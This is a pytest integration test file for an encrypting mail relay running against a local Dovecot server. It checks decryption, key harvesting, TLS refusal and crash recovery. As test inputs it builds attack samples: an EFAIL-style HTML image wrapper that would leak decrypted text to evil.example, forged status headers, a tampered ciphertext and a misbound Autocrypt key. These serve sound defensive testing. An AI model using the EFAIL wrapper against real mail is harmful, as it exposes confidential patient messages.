"""IMAP side end to end: a real Dovecot (unprivileged, loopback, TLS with a test
CA, maildir under a temp dir), patients' mail put in with imaplib, sealpostd
decrypting and harvesting, the result checked with imaplib again."""
import base64
import grp
import imaplib
import json
import os
import pwd
import shutil
import signal
import ssl
import subprocess
import socket
import tempfile
import threading
import time
from pathlib import Path

import pytest

import imap_proxy
from sealpost_harness import GpgHome, Relay, TestCA, free_port, wait_port

PRACTICE = "praxis@praxis.example"
PATIENT = "patient@example.org"
IMAP_USER = "praxis"
IMAP_PASS = "imap-secret-7f3a"


class Dovecot:
    """dovecot -F on a free loopback port. Run as `nobody` when the tests run as
    root (Dovecot's login processes refuse root), as the current user otherwise."""

    def __init__(self, ca, extra_conf=""):
        self.dir = Path(tempfile.mkdtemp(prefix="sealpost-dovecot-"))
        os.chmod(self.dir, 0o755)
        self.user = pwd.getpwnam("nobody") if os.getuid() == 0 else pwd.getpwuid(os.getuid())
        group = grp.getgrgid(self.user.pw_gid).gr_name
        cert, key = ca.server_cert("localhost", stem="dovecot-localhost")
        shutil.copy(cert, self.dir / "cert.pem")
        shutil.copy(key, self.dir / "key.pem")
        (self.dir / "passwd").write_text("%s:{PLAIN}%s::::::\n" % (IMAP_USER, IMAP_PASS))
        self.port = free_port()  # implicit TLS
        self.starttls_port = free_port()
        d = self.dir
        (d / "dovecot.conf").write_text(f"""
base_dir = {d}/run
state_dir = {d}/state
log_path = {d}/dovecot.log
protocols = imap
listen = 127.0.0.1
ssl = required
ssl_cert = <{d}/cert.pem
ssl_key = <{d}/key.pem
default_internal_user = {self.user.pw_name}
default_internal_group = {group}
default_login_user = {self.user.pw_name}
mail_location = maildir:{d}/mail/%u
namespace inbox {{
  inbox = yes
  separator = /
}}
passdb {{
  driver = passwd-file
  args = scheme=PLAIN username_format=%u {d}/passwd
}}
userdb {{
  driver = static
  args = uid={self.user.pw_uid} gid={self.user.pw_gid} home={d}/home/%u
}}
service imap-login {{
  chroot =
  inet_listener imap {{
    port = {self.starttls_port}
  }}
  inet_listener imaps {{
    port = {self.port}
    ssl = yes
  }}
}}
service anvil {{
  chroot =
}}
{extra_conf}
""")
        for root, dirs, files in os.walk(d):
            for n in dirs + files:
                os.chown(os.path.join(root, n), self.user.pw_uid, self.user.pw_gid)
        os.chown(d, self.user.pw_uid, self.user.pw_gid)
        self.ca = ca.cert
        self.proc = None

    def start(self):
        uid, gid = self.user.pw_uid, self.user.pw_gid

        def drop():
            if os.getuid() == 0:
                os.setgroups([])
                os.setgid(gid)
                os.setuid(uid)

        self.proc = subprocess.Popen(["dovecot", "-F", "-c", str(self.dir / "dovecot.conf")],
                                     preexec_fn=drop, stdout=subprocess.DEVNULL,
                                     stderr=subprocess.DEVNULL)
        wait_port(self.port, proc=self.proc)
        return self

    def stop(self, keep=False):
        """Stops Dovecot; with keep=True the mail store stays for a restart."""
        if self.proc and self.proc.poll() is None:
            self.proc.send_signal(signal.SIGTERM)
            try:
                self.proc.wait(15)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait()
        if not keep:
            shutil.rmtree(self.dir, ignore_errors=True)

    def client(self):
        ctx = ssl.create_default_context(cafile=str(self.ca))
        m = imaplib.IMAP4_SSL("localhost", self.port, ssl_context=ctx)
        m.login(IMAP_USER, IMAP_PASS)
        return m


def append(dovecot, folder, message):
    m = dovecot.client()
    typ, _ = m.append(folder, None, None, message.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n"))
    assert typ == "OK"
    m.logout()


def fetch_all(dovecot, folder):
    m = dovecot.client()
    typ, _ = m.select('"%s"' % folder, readonly=True)
    if typ != "OK":
        m.logout()
        return []
    typ, data = m.uid("FETCH", "1:*", "(BODY.PEEK[])")
    out = [part[1] for part in data if isinstance(part, tuple)]
    m.logout()
    return out


def pgp_mime(outer_headers, armored, wrap_in=None):
    """RFC 3156 multipart/encrypted; with wrap_in, nested between attacker parts."""
    enc = (b'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted";'
           b' boundary="enc"\r\n\r\n'
           b"--enc\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n"
           b"--enc\r\nContent-Type: application/octet-stream; name=encrypted.asc\r\n\r\n"
           + armored + b"\r\n--enc--\r\n")
    head = outer_headers.encode() + b"MIME-Version: 1.0\r\n"
    if not wrap_in:
        return head + enc
    return (head + b'Content-Type: multipart/mixed; boundary="outer"\r\n\r\n'
            b"--outer\r\nContent-Type: text/html\r\n\r\n" + wrap_in[0] + b"\r\n"
            b"--outer\r\n" + enc + b"\r\n"
            b"--outer\r\nContent-Type: text/html\r\n\r\n" + wrap_in[1] + b"\r\n--outer--\r\n")


INNER = (b'Content-Type: multipart/alternative; boundary="alt"\r\n'
         b"X-Sealpost-Signature: valid key FORGED-INSIDE\r\n\r\n"
         b"--alt\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nIhr Befund ist unauffaellig.\r\n"
         b"--alt\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
         b'<p>Ihr Befund ist unauffaellig.<img src="https://tracker.example/p.gif" alt="logo"></p>\r\n'
         b"--alt--\r\n")


@pytest.fixture
def world(tmp_path, request):
    ca = TestCA(tmp_path / "ca")
    dovecot = Dovecot(ca, extra_conf=getattr(request, "param", {}).get("dovecot_conf", "")).start()
    practice = GpgHome(tmp_path / "practice-gpg")
    patient = GpgHome(tmp_path / "patient-gpg")
    homes = [practice.dir, patient.dir]
    relay = None
    try:
        practice_fpr = practice.gen_key(PRACTICE, name="Praxis")
        patient_fpr = patient.gen_key(PATIENT, name="Patientin")
        practice.export_secret(practice_fpr, tmp_path / "practice.sec")
        patient.gpg("--import", str(practice.export(PRACTICE, tmp_path / "practice.pub")))
        pw = tmp_path / "imap.pass"
        pw.write_text(IMAP_PASS + "\n")
        relay = Relay(tmp_path, smarthost_port=free_port(), ca=ca, config_overrides={"imap": [{
            "host": "localhost", "port": dovecot.port, "tls": "implicit",
            "ca_file": str(ca.cert), "username": IMAP_USER, "password_file": str(pw),
            "folders": ["INBOX"]}]})
        relay.cli("keys", "import", tmp_path / "practice.sec")
        homes.append(relay.state_dir / "gnupg")
        yield dict(tmp=tmp_path, dovecot=dovecot, relay=relay, patient=patient,
                   patient_fpr=patient_fpr, practice_fpr=practice_fpr, ca=ca)
    finally:
        if relay is not None:
            relay.stop()
        dovecot.stop()
        for h in homes:
            subprocess.run(["gpgconf", "--homedir", str(h), "--kill", "all"], capture_output=True)


def wait_for(pred, timeout=60):
    deadline = time.time() + timeout
    while time.time() < deadline:
        v = pred()
        if v:
            return v
        time.sleep(0.5)
    raise TimeoutError("condition not met")


def test_decrypts_harvests_and_processes_once(world):
    dovecot, relay, patient = world["dovecot"], world["relay"], world["patient"]
    tmp = world["tmp"]
    keydata = base64.b64encode(patient.gpg("--export", PATIENT).stdout).decode()
    folded = "\r\n ".join(keydata[i:i + 76] for i in range(0, len(keydata), 76))
    autocrypt_mail = ("From: Patientin <%s>\r\nTo: %s\r\nSubject: Hallo\r\n"
                      "Message-ID: <ac-1@example.org>\r\n"
                      "Autocrypt: addr=%s; prefer-encrypt=mutual; keydata=\r\n %s\r\n"
                      "\r\nGuten Tag.\r\n" % (PATIENT, PRACTICE, PATIENT, folded)).encode()
    append(dovecot, "INBOX", autocrypt_mail)

    (tmp / "inner.txt").write_bytes(INNER)
    armored = patient.gpg("--armor", "--trust-model", "always", "--encrypt", "--sign",
                          "-u", PATIENT, "-r", PRACTICE, "-o", "-", str(tmp / "inner.txt")).stdout
    headers = ("From: Patientin <%s>\r\nTo: %s\r\nSubject: ...\r\nMessage-ID: <enc-1@example.org>\r\n"
               "X-Sealpost-Signature: valid key FORGED-OUTSIDE\r\nX-Sealpost-Decrypted: yes\r\n"
               % (PATIENT, PRACTICE))
    append(dovecot, "INBOX", pgp_mime(headers, armored))
    efail = headers.replace("enc-1", "enc-2")
    append(dovecot, "INBOX", pgp_mime(efail, armored,
                                      wrap_in=(b'<img src="https://evil.example/', b'">')))
    # Tampered: one bit flipped in the ciphertext (binary, base64 on the wire).
    binary = bytearray(patient.gpg("--trust-model", "always", "--encrypt", "-r", PRACTICE,
                                   "-o", "-", str(tmp / "inner.txt")).stdout)
    binary[len(binary) - 20] ^= 0x01
    plain_headers = "".join(l + "\r\n" for l in headers.split("\r\n")
                            if l and not l.startswith("X-Sealpost"))
    tampered = pgp_mime(plain_headers.replace("enc-1", "bad-1"), b"").replace(
        b"name=encrypted.asc\r\n\r\n\r\n",
        b"name=encrypted.asc\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
        base64.encodebytes(bytes(binary)).replace(b"\n", b"\r\n"))
    append(dovecot, "INBOX", tampered)
    # Plain mail claiming a Sealpost status: replaced by a copy without it.
    append(dovecot, "INBOX", ("From: Mallory <mallory@evil.example>\r\nTo: %s\r\n"
                              "Subject: Befund\r\nMessage-ID: <forged-1@evil.example>\r\n"
                              "X-Sealpost-Decrypted: yes\r\n"
                              "X-Sealpost-Signature: valid key FORGED-PLAIN\r\n"
                              "\r\nBitte anrufen.\r\n" % PRACTICE).encode())

    relay.config["imap"][0]["harvest"] = "auto"  # the default is approve
    relay.write_config()
    relay.start()
    originals = wait_for(lambda: len(fetch_all(dovecot, "Sealpost/Originals")) == 3 and
                         fetch_all(dovecot, "Sealpost/Originals"))
    assert len([m for m in originals if b"multipart/encrypted" in m]) == 2
    assert any(b"forged-1" in m for m in originals)
    inbox = fetch_all(dovecot, "INBOX")
    cleaned = [m for m in inbox if b"forged-1" in m]
    assert len(cleaned) == 1 and b"Bitte anrufen." in cleaned[0]
    assert b"FORGED-PLAIN" not in cleaned[0] and b"X-Sealpost-Decrypted" not in cleaned[0]
    readable = [m for m in inbox if b"X-Sealpost-Decrypted: yes" in m]
    assert len(readable) == 2
    for m in readable:
        assert b"FORGED" not in m
        assert b"Ihr Befund ist unauffaellig." in m
        assert b"tracker.example" not in m  # remote image dropped from decrypted HTML
        assert b"BEGIN PGP MESSAGE" not in m
        assert m.count(b"X-Sealpost-Signature:") == 1
        # Learnt from the earlier Autocrypt mail (trust on first use), not
        # vouched for by anybody: never a plain "valid key".
        assert ("X-Sealpost-Signature: valid harvested key %s (unverified)"
                % world["patient_fpr"]).encode() in m
    efail_copy = [m for m in readable if b"enc-2" in m][0]
    assert b"evil.example" not in efail_copy and b"X-Sealpost-Note:" in efail_copy
    # The tampered message and the Autocrypt mail stay where they were, untouched.
    assert any(b"bad-1" in m and b"X-Sealpost-Decrypted" not in m for m in inbox)
    assert any(b"ac-1" in m for m in inbox)
    assert len(inbox) == 5

    keys = json.loads(relay.cli("--json", "keys", "list").stdout)
    entries = keys if isinstance(keys, list) else keys.get("keys", [])
    harvested = [k for k in entries if k.get("id") == world["patient_fpr"]]
    assert harvested and harvested[0]["provenance"]["source"] == "harvested"

    # Restart: nothing is processed a second time (no third readable copy, no move).
    relay.stop()
    relay.start()
    status = wait_for(lambda: (lambda s: s["accounts"][0]["last_uid"] >= 6 and s)(
        json.loads(relay.cli("--json", "imap", "status").stdout)), timeout=60)
    assert status["accounts"][0]["last_error"] == ""
    assert status["accounts"][0]["folder"] == "INBOX"
    assert status["accounts"][0]["uidvalidity"] > 0
    time.sleep(2)
    assert len(fetch_all(dovecot, "INBOX")) == 5
    assert len(fetch_all(dovecot, "Sealpost/Originals")) == 3

    # IDLE: a new reply is handled within seconds, long before the 60 s poll.
    append(dovecot, "INBOX", pgp_mime(plain_headers.replace("enc-1", "enc-3"), armored))
    wait_for(lambda: len(fetch_all(dovecot, "Sealpost/Originals")) == 4, timeout=20)
    inbox = fetch_all(dovecot, "INBOX")
    assert len([m for m in inbox if b"enc-3" in m and b"X-Sealpost-Decrypted: yes" in m]) == 1
    assert len(inbox) == 6
    assert IMAP_PASS not in relay.log()
    assert "unauffaellig" not in relay.log()


def test_wrong_ca_is_refused(world):
    relay, tmp = world["relay"], world["tmp"]
    other = TestCA(tmp / "other-ca", name="Other CA")
    relay.config["imap"][0]["ca_file"] = str(other.cert)
    relay.write_config()
    relay.start()
    status = wait_for(lambda: (lambda s: s["accounts"][0]["last_error"] not in ("", "never polled")
                               and s)(json.loads(relay.cli("--json", "imap", "status").stdout)))
    assert "certificate" in status["accounts"][0]["last_error"]
    assert len(fetch_all(world["dovecot"], "INBOX")) == 0


def test_server_offering_only_tls11_is_refused(world):
    """An IMAP server stuck at TLS 1.0/1.1 never sees our LOGIN."""
    relay, tmp = world["relay"], world["tmp"]
    old_ca = TestCA(tmp / "old-ca", name="Old CA")
    cert, key = old_ca.server_cert("localhost")
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(cert, key)
    ctx.set_ciphers("DEFAULT:@SECLEVEL=0")  # OpenSSL 3 needs level 0 for TLS < 1.2
    ctx.minimum_version = ssl.TLSVersion.MINIMUM_SUPPORTED
    ctx.maximum_version = ssl.TLSVersion.TLSv1_1
    listener = socket.create_server(("127.0.0.1", 0))
    received = []

    def serve():
        while True:
            try:
                conn, _ = listener.accept()
            except OSError:
                return  # listener closed: test over
            try:
                with ctx.wrap_socket(conn, server_side=True) as tls:
                    tls.sendall(b"* OK [CAPABILITY IMAP4rev1] old server ready\r\n")
                    tls.settimeout(5)
                    while data := tls.recv(4096):
                        received.append(data)
            except (OSError, ssl.SSLError):
                pass

    threading.Thread(target=serve, daemon=True).start()
    try:
        relay.config["imap"][0].update({"port": listener.getsockname()[1], "ca_file": str(old_ca.cert)})
        relay.write_config()
        relay.start()
        status = wait_for(lambda: (lambda s: s["accounts"][0]["last_error"] not in ("", "never polled")
                                   and s)(json.loads(relay.cli("--json", "imap", "status").stdout)))
    finally:
        listener.close()
    error = status["accounts"][0]["last_error"]
    assert "TLS1.1" in error and "TLS 1.2 or newer" in error, error
    assert not any(b"LOGIN" in d.upper() for d in received)


def test_smime_replies(world):
    dovecot, relay, tmp = world["dovecot"], world["relay"], world["tmp"]
    ca = TestCA(tmp / "ca")
    cert, _key, p12 = ca.smime_cert(PRACTICE)
    relay.cli("keys", "import", p12)
    (tmp / "inner.txt").write_bytes(b"Content-Type: text/plain; charset=utf-8\r\n\r\n"
                                    b"Laborwerte im Normbereich.\r\n")
    for cipher, mid in (("-aes-256-cbc", "cbc-1"), ("-aes-256-gcm", "gcm-1")):
        out = subprocess.run(["openssl", "cms", "-encrypt", "-binary", cipher,
                              "-in", str(tmp / "inner.txt"), str(cert)],
                             capture_output=True, check=True).stdout
        head = ("From: Labor <labor@labor-x.example>\r\nTo: %s\r\nSubject: Werte\r\n"
                "Message-ID: <%s@labor-x.example>\r\nX-Sealpost-Decrypted: yes\r\n"
                % (PRACTICE, mid)).encode()
        append(dovecot, "INBOX", head + out)
    relay.start()
    wait_for(lambda: len(fetch_all(dovecot, "Sealpost/Originals")) == 2)
    inbox = fetch_all(dovecot, "INBOX")
    assert len(inbox) == 2
    cbc = [m for m in inbox if b"cbc-1" in m][0]
    gcm = [m for m in inbox if b"gcm-1" in m][0]
    for m in (cbc, gcm):
        assert b"Laborwerte im Normbereich." in m
        assert m.count(b"X-Sealpost-Decrypted:") == 1
        assert b"X-Sealpost-Signature: none" in m
        assert b"pkcs7-mime" not in m
    assert b"X-Sealpost-Decrypted: yes; unauthenticated" in cbc
    assert b"X-Sealpost-Decrypted: yes\r\n" in gcm


def test_keys_and_signatures_are_bound_to_from(world):
    """Mallory sends the patient's key as her Autocrypt key (not harvested) and
    forwards a reply signed by the patient under her own From (not 'valid')."""
    dovecot, relay, patient, tmp = world["dovecot"], world["relay"], world["patient"], world["tmp"]
    mallory = "mallory@evil.example"
    keydata = base64.b64encode(patient.gpg("--export", PATIENT).stdout).decode()
    append(dovecot, "INBOX", ("From: <%s>\r\nTo: %s\r\nMessage-ID: <m-ac@evil.example>\r\n"
                              "Autocrypt: addr=%s; keydata=%s\r\n\r\nhi\r\n"
                              % (mallory, PRACTICE, mallory, keydata)).encode())
    (tmp / "inner.txt").write_bytes(INNER)
    armored = patient.gpg("--armor", "--trust-model", "always", "--encrypt", "--sign",
                          "-u", PATIENT, "-r", PRACTICE, "-o", "-", str(tmp / "inner.txt")).stdout
    relay.cli("keys", "import", patient.export(PATIENT, tmp / "patient.pub"))  # signer known
    append(dovecot, "INBOX", pgp_mime("From: <%s>\r\nTo: %s\r\nMessage-ID: <m-enc@evil.example>\r\n"
                                      % (mallory, PRACTICE), armored))
    relay.start()
    wait_for(lambda: len(fetch_all(dovecot, "Sealpost/Originals")) == 1)
    copy = [m for m in fetch_all(dovecot, "INBOX") if b"X-Sealpost-Decrypted: yes" in m][0]
    assert ("X-Sealpost-Signature: invalid (good signature by key %s which does not belong to %s)"
            % (world["patient_fpr"], mallory)).encode() in copy
    entries = json.loads(relay.cli("--json", "keys", "list").stdout)
    entries = entries if isinstance(entries, list) else entries.get("keys", [])
    mine = [k for k in entries if k.get("id") == world["patient_fpr"]]
    assert mine and mine[0]["provenance"]["source"] == "imported"  # not replaced by the harvest
    assert "not a usable key for the From address: no valid user id with exactly this address" \
        in relay.log()


def test_starttls(world):
    dovecot, relay, patient, tmp = world["dovecot"], world["relay"], world["patient"], world["tmp"]
    relay.config["imap"][0].update({"port": dovecot.starttls_port, "tls": "starttls"})
    relay.write_config()
    (tmp / "inner.txt").write_bytes(b"Content-Type: text/plain\r\n\r\nDanke.\r\n")
    armored = patient.gpg("--armor", "--trust-model", "always", "--encrypt", "-r", PRACTICE,
                          "-o", "-", str(tmp / "inner.txt")).stdout
    append(dovecot, "INBOX", pgp_mime("From: <%s>\r\nTo: %s\r\nMessage-ID: <st-1@example.org>\r\n"
                                      % (PATIENT, PRACTICE), armored))
    relay.start()
    wait_for(lambda: len(fetch_all(dovecot, "Sealpost/Originals")) == 1)
    copy = [m for m in fetch_all(dovecot, "INBOX") if b"X-Sealpost-Decrypted: yes" in m]
    assert len(copy) == 1 and b"Danke." in copy[0] and b"X-Sealpost-Signature: none" in copy[0]


def smime_signed_mail(tmp, cert, key, message_id, sender=PATIENT, body=b"Bitte um Termin.\r\n"):
    """A patient's signed mail as their client makes it (multipart/signed, openssl cms)."""
    (tmp / "signed-body.txt").write_bytes(b"Content-Type: text/plain; charset=utf-8\r\n\r\n" + body)
    signed = subprocess.run(["openssl", "cms", "-sign", "-crlfeol", "-in", str(tmp / "signed-body.txt"),
                             "-signer", str(cert), "-inkey", str(key), "-from", sender,
                             "-to", PRACTICE, "-subject", "Termin"],
                            capture_output=True, check=True).stdout
    return ("Message-ID: %s\r\n" % message_id).encode() + signed


def locate(relay, address):
    return json.loads(relay.cli("--json", "keys", "locate", address, check=False).stdout)


def test_smime_signature_harvest_makes_next_mail_smime(world):
    """A signed mail from a patient with a test-CA certificate lands in the inbox;
    Sealpost learns the certificate, and the next mail to the patient leaves
    S/MIME-encrypted instead of going to pickup."""
    from recording_sink import Sink
    from sealpost_harness import submit, simple_message
    dovecot, relay, tmp = world["dovecot"], world["relay"], world["tmp"]
    ca = TestCA(tmp / "ca")
    cert, key, _p12 = ca.smime_cert(PATIENT)
    relay.config["keystore"] = {"trust_anchors": [str(ca.cert)]}
    relay.config["imap"][0]["harvest"] = "auto"
    relay.write_config()
    append(dovecot, "INBOX", smime_signed_mail(tmp, cert, key, "<signed-1@example.org>"))
    relay.add_user("anna", "anna-pw-91c2", [PRACTICE])
    with Sink(tmp / "sink", port=relay.config["smarthost"]["port"]) as sink:
        relay.start()
        found = wait_for(lambda: (lambda f: f["smime"] and f)(locate(relay, PATIENT)))
        assert found["smime"][0]["provenance"]["source"] == "harvested"
        assert found["smime"][0]["provenance"]["origin"] == \
            "signature from %s in <signed-1@example.org>" % PATIENT
        assert found["pgp"] == []
        # The signed mail itself stays as it is: staff's client shows its signature.
        inbox = fetch_all(dovecot, "INBOX")
        assert len(inbox) == 1 and b"signed-1" in inbox[0]
        assert b"X-Sealpost" not in inbox[0]

        submit(relay.port("submission"), PRACTICE, [PATIENT],
               simple_message(PRACTICE, PATIENT, subject="Ihr Befund",
                              body="Der Befund ist unauffaellig.\r\n"),
               auth=("anna", "anna-pw-91c2"), cafile=relay.ca.cert)
        meta, data = sink.wait_for(1)[0]
    assert meta["rcpt_tos"] == [PATIENT]
    assert b"application/pkcs7-mime" in data and b"enveloped-data" in data
    assert b"unauffaellig" not in data and b"Ihr Befund" not in data
    (tmp / "out.eml").write_bytes(data)
    plain = subprocess.run(["openssl", "cms", "-decrypt", "-in", str(tmp / "out.eml"),
                            "-recip", str(cert), "-inkey", str(key)],
                           capture_output=True, check=True).stdout
    assert b"Der Befund ist unauffaellig." in plain


def test_harvest_approve(world):
    """imap[].harvest: approve: the certificate is stored but not used until
    `sealpost keys approve`; keys list / locate say why."""
    dovecot, relay, tmp = world["dovecot"], world["relay"], world["tmp"]
    ca = TestCA(tmp / "ca")
    cert, key, _p12 = ca.smime_cert(PATIENT)
    relay.config["keystore"] = {"trust_anchors": [str(ca.cert)]}
    relay.config["imap"][0].update({"harvest": "approve", "originals_folder": "Sealpost/Kopien",
                                    "poll_interval": "5s"})
    relay.write_config()
    append(dovecot, "INBOX", smime_signed_mail(tmp, cert, key, "<signed-2@example.org>"))
    relay.start()

    def pending():
        entries = json.loads(relay.cli("--json", "keys", "list").stdout)["keys"]
        return [k for k in entries if k["kind"] == "smime" and k["provenance"]["pending"]]
    entry = wait_for(pending)[0]
    assert entry["usable"] is False and "awaiting approval" in entry["problem"]
    assert entry["provenance"]["source"] == "harvested"
    text = relay.cli("keys", "list").stdout
    assert "harvested, pending approval" in text
    found = locate(relay, PATIENT)
    assert found["smime"] == []
    assert any("sealpost keys approve " + entry["id"] in r["reason"] for r in found["rejected"])
    assert relay.cli("keys", "locate", PATIENT, check=False).returncode == 1

    out = relay.cli("keys", "approve", entry["id"]).stdout
    assert out.startswith("approved smime " + entry["id"])
    found = locate(relay, PATIENT)
    assert len(found["smime"]) == 1 and found["smime"][0]["id"] == entry["id"]
    assert found["smime"][0]["provenance"]["pending"] is False
    assert relay.cli("keys", "approve", "x509:" + "0" * 64, check=False).returncode == 1

    # The account's originals folder is the configured one.
    patient = world["patient"]
    (tmp / "inner.txt").write_bytes(b"Content-Type: text/plain\r\n\r\nDanke.\r\n")
    armored = patient.gpg("--armor", "--trust-model", "always", "--encrypt", "-r", PRACTICE,
                          "-o", "-", str(tmp / "inner.txt")).stdout
    append(dovecot, "INBOX", pgp_mime("From: <%s>\r\nTo: %s\r\nMessage-ID: <o-1@example.org>\r\n"
                                      % (PATIENT, PRACTICE), armored))
    wait_for(lambda: len(fetch_all(dovecot, "Sealpost/Kopien")) == 1, timeout=30)
    assert fetch_all(dovecot, "Sealpost/Originals") == []


def test_inline_pgp_reply(world):
    """A text/plain body that is one armored OpenPGP message is decrypted like PGP/MIME."""
    dovecot, relay, patient, tmp = world["dovecot"], world["relay"], world["patient"], world["tmp"]
    (tmp / "inline.txt").write_bytes("Grüße,\nder Termin passt.\n".encode())
    armored = patient.gpg("--armor", "--trust-model", "always", "--encrypt", "--sign",
                          "-u", PATIENT, "-r", PRACTICE, "-o", "-", str(tmp / "inline.txt")).stdout
    relay.cli("keys", "import", patient.export(PATIENT, tmp / "patient.pub"))  # signer known
    append(dovecot, "INBOX", ("From: <%s>\r\nTo: %s\r\nSubject: Termin\r\n"
                              "Message-ID: <inline-1@example.org>\r\n"
                              "Content-Type: text/plain; charset=us-ascii\r\n\r\n"
                              % (PATIENT, PRACTICE)).encode() + armored)
    relay.start()
    wait_for(lambda: len(fetch_all(dovecot, "Sealpost/Originals")) == 1)
    copy = [m for m in fetch_all(dovecot, "INBOX") if b"X-Sealpost-Decrypted: yes" in m]
    assert len(copy) == 1
    assert b"BEGIN PGP MESSAGE" not in copy[0]
    assert ("X-Sealpost-Signature: valid key %s" % world["patient_fpr"]).encode() in copy[0]
    import email
    body = email.message_from_bytes(copy[0]).get_payload(decode=True).decode("utf-8")
    assert "Grüße,\r\nder Termin passt." in body or "Grüße,\nder Termin passt." in body


# ---- crash safety, reconnects, integrity, folders (issue 10 review) ----------------------

def encrypted_reply(world, message_id, body=b"Content-Type: text/plain\r\n\r\nDanke.\r\n",
                    extra=()):
    """A PGP/MIME reply from the patient, encrypted (not signed) to the practice."""
    tmp, patient = world["tmp"], world["patient"]
    (tmp / "reply.txt").write_bytes(body)
    armored = patient.gpg("--armor", "--trust-model", "always", *extra, "--encrypt",
                          "-r", PRACTICE, "-o", "-", str(tmp / "reply.txt")).stdout
    return pgp_mime("From: <%s>\r\nTo: %s\r\nSubject: Antwort\r\nMessage-ID: %s\r\n"
                    % (PATIENT, PRACTICE, message_id), armored)


def imap_status(relay):
    return json.loads(relay.cli("--json", "imap", "status").stdout)["accounts"]


def through_proxy(world):
    """Points the relay at a TLS proxy in front of Dovecot; returns the proxy."""
    proxy = imap_proxy.ImapProxy(world["ca"], world["dovecot"].port)
    world["relay"].config["imap"][0]["port"] = proxy.port
    world["relay"].write_config()
    return proxy


def sigkill(relay):
    relay.proc.send_signal(signal.SIGKILL)
    relay.proc.wait()
    relay.kill()


def readable_copies(dovecot, folder, message_id):
    return [m for m in fetch_all(dovecot, folder)
            if message_id.encode() in m and b"X-Sealpost-Decrypted: yes" in m]


@pytest.mark.parametrize("mode,copy", [(imap_proxy.HOLD_APPEND_REPLY, "found"),
                                       (imap_proxy.HOLD_APPEND_COMMAND, "missing"),
                                       (imap_proxy.HOLD_FETCH_REPLY, None)])
def test_sigkill_mid_message_neither_loses_it_nor_copies_it_twice(world, mode, copy):
    """sealpostd is SIGKILLed while a reply is being fetched, while its APPEND is
    on the way, and after the server appended but before sealpostd heard so.
    After a restart the reply has exactly one readable copy and the original
    is in the originals folder."""
    dovecot, relay = world["dovecot"], world["relay"]
    proxy = through_proxy(world)
    try:
        append(dovecot, "INBOX", encrypted_reply(world, "<crash-1@example.org>"))
        proxy.mode = mode
        relay.start()
        assert proxy.held.wait(60), "sealpostd never got to the held step"
        if mode == imap_proxy.HOLD_APPEND_REPLY:
            # The server has the copy; sealpostd does not know yet.
            wait_for(lambda: readable_copies(dovecot, "INBOX", "crash-1"), timeout=20)
        sigkill(relay)
        proxy.cut()
        proxy.mode = imap_proxy.PASS
        relay.start()
        wait_for(lambda: len(fetch_all(dovecot, "Sealpost/Originals")) == 1)
        time.sleep(2)  # a second copy, if any, would come now
        assert len(readable_copies(dovecot, "INBOX", "crash-1")) == 1
        assert len(fetch_all(dovecot, "INBOX")) == 1
        log = relay.log()
        if copy:
            assert "imap.recovered" in log and "copy=" + copy in log
        else:
            assert "imap.claims_released messages=1" in log
        status = wait_for(lambda: (lambda a: a[0]["outcomes"].get("decrypted") == 1 and a)(
            imap_status(relay)))
        assert not [k for k in status[0]["outcomes"] if k.startswith(("appending", "claimed"))]
    finally:
        proxy.close()


def test_a_refused_append_is_given_up_after_three_tries(world):
    """The server answers every APPEND of the readable copy with NO: after three
    tries the message is given up (state append-refused, audited), its original
    stays in the folder, and later mail is not held up once APPEND works."""
    dovecot, relay = world["dovecot"], world["relay"]
    proxy = through_proxy(world)
    try:
        proxy.mode = imap_proxy.REFUSE_APPEND
        append(dovecot, "INBOX", encrypted_reply(world, "<quota-1@example.org>"))
        relay.start()
        wait_for(lambda: "imap.append_refused" in relay.log(), timeout=90)
        assert proxy.refused == 3
        status = wait_for(lambda: (lambda a: a[0]["outcomes"].get("append-refused") == 1 and a)(
            imap_status(relay)))
        assert not [k for k in status[0]["outcomes"] if k.startswith(("appending", "claimed"))]
        time.sleep(3)  # no fourth try
        assert proxy.refused == 3
        inbox = fetch_all(dovecot, "INBOX")
        assert len(inbox) == 1 and b"quota-1@example.org" in inbox[0]
        assert fetch_all(dovecot, "Sealpost/Originals") == []
        events = []
        for f in sorted((relay.state_dir / "audit").glob("audit-*.jsonl")):
            events += [json.loads(line) for line in f.read_text().splitlines()]
        refused = [e for e in events if e.get("type") == "imap.append_refused"]
        assert len(refused) == 1, events
        assert "Quota exceeded" in refused[0]["fields"]["reason"], refused[0]
        # The server takes copies again: the next reply goes through.
        proxy.mode = imap_proxy.PASS
        append(dovecot, "INBOX", encrypted_reply(world, "<quota-2@example.org>"))
        wait_for(lambda: len(readable_copies(dovecot, "INBOX", "quota-2")) == 1, timeout=60)
        assert len(fetch_all(dovecot, "Sealpost/Originals")) == 1
        assert readable_copies(dovecot, "INBOX", "quota-1") == []
    finally:
        proxy.close()


def test_stop_is_bounded_when_the_server_stops_answering(world):
    """The server never answers a FETCH: on SIGTERM sealpostd cuts the IMAP
    connection after limits.shutdown_grace instead of waiting out the 120 s
    command timeout, exits 0, and the message is handled after the restart."""
    dovecot, relay = world["dovecot"], world["relay"]
    relay.config["limits"] = {"shutdown_grace": "2s"}
    relay.write_config()
    proxy = through_proxy(world)
    try:
        append(dovecot, "INBOX", encrypted_reply(world, "<stall-1@example.org>"))
        proxy.mode = imap_proxy.HOLD_FETCH_REPLY
        relay.start()
        assert proxy.held.wait(60), "sealpostd never fetched"
        started = time.time()
        assert relay.stop(timeout=60) == 0
        assert time.time() - started < 2 + 10
        assert "imap.aborted" in relay.log()
        proxy.cut()
        proxy.mode = imap_proxy.PASS
        relay.start()
        wait_for(lambda: len(readable_copies(dovecot, "INBOX", "stall-1")) == 1, timeout=60)
    finally:
        proxy.close()


def test_server_restart_and_network_loss_reconnect_with_backoff(world):
    dovecot, relay = world["dovecot"], world["relay"]
    proxy = through_proxy(world)
    try:
        relay.start()
        wait_for(lambda: imap_status(relay)[0]["connection"] == "connected")
        # Network loss while sealpostd waits in IDLE: it notices and reconnects.
        proxy.cut()
        append(dovecot, "INBOX", encrypted_reply(world, "<net-1@example.org>"))
        wait_for(lambda: len(readable_copies(dovecot, "INBOX", "net-1")) == 1, timeout=60)

        # The server goes away: sealpostd backs off and says so ...
